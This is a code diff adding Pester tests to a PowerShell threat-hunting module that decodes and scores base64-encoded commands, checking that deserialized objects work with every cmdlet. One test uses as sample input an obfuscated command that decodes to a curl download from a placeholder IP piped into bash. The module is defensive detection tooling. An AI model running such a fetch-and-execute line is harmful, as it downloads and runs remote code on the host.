@@ -349,3 +349,53 @@ Describe 'Text followed by control bytes in a trailing comment is text' {
         Encode ([byte[]](0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00) * 8 + [byte[]](0x23, 0x01)) | Get-B64Command | Where-Object { -not $_.IsBinary } | Should -BeNullOrEmpty
     }
 }
+
+Describe 'Deserialized objects (Import-Clixml, Receive-Job) are accepted by every cmdlet' {
+    BeforeAll {
+        $script:Feed = Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/ti-feed.csv'
+        $script:Live = Get-B64Command -Sample -ErrorAction SilentlyContinue | Add-B64Category | Add-GtfoBinsTag | Find-B64Ioc |
+            Invoke-B64TiLookup -LocalFeed $Feed -WarningAction SilentlyContinue
+        $script:LiveAlerts = Get-B64RelatedAlert -Sample
+        $script:LiveScores = $Live | Measure-B64Score -Alert $LiveAlerts
+        $xml = Join-Path $Work 'hunt.clixml'
+        @{ Events = $Live; Alerts = $LiveAlerts; Scores = $LiveScores } | Export-Clixml -LiteralPath $xml
+        $script:Saved = Import-Clixml -LiteralPath $xml
+    }
+
+    It 'gets property bags from Import-Clixml (the case being fixed)' {
+        $Saved.Events[0].pstypenames[0] | Should -Be 'Deserialized.B64Hunt.Model.CommandEvent'
+        $Saved.Events[0].psobject.BaseObject | Should -BeOfType ([System.Management.Automation.PSCustomObject])
+    }
+
+    It 're-scores a saved hunt to the same ranking, with saved alerts given to -Alert' {
+        $again = $Saved.Events | Measure-B64Score -Alert $Saved.Alerts
+        $again.DecodedCommand | Should -Be $LiveScores.DecodedCommand
+        $again.TotalScore | Should -Be $LiveScores.TotalScore
+        ($again | Where-Object SevScore -gt 0) | Should -Not -BeNullOrEmpty
+    }
+
+    It 're-scores saved CommandScores (their Events) and reports them' {
+        ($Saved.Scores | Measure-B64Score -Alert $Saved.Alerts).TotalScore | Should -Be $LiveScores.TotalScore
+        $html = Join-Path $Work 'saved.html'
+        $Saved.Scores | Show-B64Timeline -Alert $Saved.Alerts -OutFile $html -ErrorVariable err
+        $err | Should -BeNullOrEmpty
+        (Get-Content -Raw -LiteralPath $html) | Should -BeLike "*$([System.Net.WebUtility]::HtmlEncode($LiveScores[0].DecodedCommand.Substring(0, 20)))*"
+    }
+
+    It 'enriches deserialized events from a job (Receive-Job) in every enrichment cmdlet' {
+        $job = Start-Job -ScriptBlock { param($m) Import-Module $m; 'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IGJhc2g= | base64 -d | bash' | Get-B64Command } -ArgumentList $env:B64HUNT_MODULE
+        $received = $job | Wait-Job -Timeout 120 | Receive-Job
+        $job | Remove-Job -Force
+        $received.pstypenames[0] | Should -Be 'Deserialized.B64Hunt.Model.CommandEvent'
+        $e = $received | Add-B64Category | Add-GtfoBinsTag | Find-B64Ioc -ErrorVariable err
+        $err | Should -BeNullOrEmpty
+        $e | Should -BeOfType ([B64Hunt.Model.CommandEvent])
+        $e.Categories | Should -Contain 'Network connections/Downloading'
+        $e.Iocs.Normalized | Should -Contain '203.0.113.7'
+    }
+
+    It 'still refuses an arbitrary object with UnsupportedInputObject' {
+        [pscustomobject]@{ Name = 'x' } | Add-B64Category -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
+        $err.FullyQualifiedErrorId | Should -Be 'UnsupportedInputObject,B64Hunt.Commands.AddB64CategoryCommand'
+    }
+}
